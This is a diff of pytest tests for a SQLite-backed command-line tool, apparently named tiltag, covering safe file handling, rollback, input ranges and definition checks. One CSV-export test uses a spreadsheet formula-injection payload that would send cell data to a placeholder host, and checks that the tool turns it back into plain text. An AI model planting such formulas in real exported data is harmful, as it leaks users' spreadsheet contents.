@@ -10,6 +10,7 @@ from pathlib import Path
 import click
 import pytest
 from click.testing import CliRunner
+from sqlalchemy import Engine, text
 
 from cli import cli
 from tests.conftest import Invoke
@@ -439,7 +440,26 @@ def test_the_demo_builds_a_portfolio_and_replaces_its_sqlite_file(tmp_path: Path
     assert {"realised", "rejected", "withdrawn", "on_hold", "screening", "scaled"} <= set(states)
     url = f"sqlite:///{path}"
     again = CliRunner().invoke(cli, ["demo", "--database", url])
-    assert again.exit_code == 0  # a SQLite file is replaced
+    assert again.exit_code == 0  # its own SQLite file is replaced
+
+
+@pytest.mark.parametrize("content", [b"notes, not a database", None])
+def test_the_demo_never_replaces_a_file_it_did_not_make(
+    tmp_path: Path, content: bytes | None
+) -> None:
+    path = tmp_path / "tiltag.db"
+    if content is None:  # a real tiltag database, in use
+        assert CliRunner().invoke(cli, ["init", "--database", str(path)]).exit_code == 0
+    else:
+        path.write_bytes(content)
+    before = path.read_bytes()
+    result = CliRunner().invoke(cli, ["demo", "--database", str(path)])
+    assert (result.exit_code, result.stderr) == (
+        1,
+        f"Error: the demo replaces only a database it made itself, and {path} is another file; "
+        "give --database a new file\n",
+    )
+    assert path.read_bytes() == before
 
 
 def test_now_is_checked_before_any_command_runs() -> None:
@@ -504,4 +524,73 @@ def test_a_database_from_a_newer_tiltag_is_refused(tmp_path: Path) -> None:
         2,
         f"Error: {path} is at schema 0099, made by a newer tiltag than this one "
         f"(which knows schema {SCHEMA_REVISION}); use the newer tiltag\n",
+    )
+
+
+def test_a_database_error_on_the_path_of_a_move_is_one_line_and_rolls_back(
+    cast: Invoke, engine: Engine
+) -> None:
+    id_ = propose(cast)
+    with engine.begin() as conn:
+        conn.execute(text("ALTER TABLE event RENAME TO event_gone"))
+    try:
+        result = cast("advance", str(id_), "withdraw", actor="aase")
+        assert result.exit_code == 1
+        assert result.stderr.startswith("Error: database error: ")
+        assert "event" in result.stderr and len(result.stderr.splitlines()) == 1
+    finally:
+        with engine.begin() as conn:
+            conn.execute(text("ALTER TABLE event_gone RENAME TO event"))
+    assert cast("show", str(id_)).stdout.count("screening") == 1
+
+
+@pytest.mark.parametrize("given", ["0", str(2**31)])
+def test_an_id_out_of_range_is_wrong_usage(cast: Invoke, given: str) -> None:
+    result = cast("show", given)
+    assert result.exit_code == 2
+    assert "is not in the range 1<=x<=2147483647" in result.stderr
+
+
+def test_init_adds_nothing_to_a_database_that_belongs_to_something_else(tmp_path: Path) -> None:
+    import sqlite3
+
+    path = tmp_path / "budget.db"
+    with sqlite3.connect(path) as conn:
+        conn.execute("CREATE TABLE budget (year INTEGER, amount INTEGER)")
+    before = path.read_bytes()
+    result = CliRunner().invoke(cli, ["init", "--database", str(path)])
+    assert (result.exit_code, result.stderr) == (
+        2,
+        f"Error: {path} holds tables that are not tiltag's (budget); give a new or empty "
+        "database\n",
+    )
+    assert path.read_bytes() == before
+
+
+def test_a_title_that_looks_like_a_formula_stays_text_in_csv(cast: Invoke) -> None:
+    import csv
+    import io
+
+    title = '=HYPERLINK("http://x.example/?"&A1,"Klik")'
+    assert cast("propose", title, actor="aase").exit_code == 0
+    rows = list(csv.DictReader(io.StringIO(cast("list", "--format", "csv").stdout)))
+    assert rows[-1]["title"] == "'" + title
+    shown = json.loads(cast("list", "--format", "json").stdout)
+    assert shown[-1]["title"] == title  # only the spreadsheet format is guarded
+
+
+def test_a_file_checked_alone_may_create_in_a_definition_of_the_folder(tmp_path: Path) -> None:
+    trial = ROOT / "definitions" / "proevehandling.yaml"
+    result = CliRunner().invoke(cli, ["definitions", "check", str(trial)])
+    assert (result.exit_code, result.stderr) == (0, "")
+    broken = tmp_path / "trial.yaml"
+    broken.write_text(
+        trial.read_text(encoding="utf-8").replace("creates: effektivisering", "creates: nowhere"),
+        encoding="utf-8",
+    )
+    result = CliRunner().invoke(cli, ["definitions", "check", str(broken)])
+    assert result.exit_code == 1
+    assert result.stderr.startswith(
+        f"Error: {broken}:98: transition 'scale' creates initiatives in 'nowhere', which no "
+        "definition in the folder is called (have: effektivisering, proevehandling)"
     )
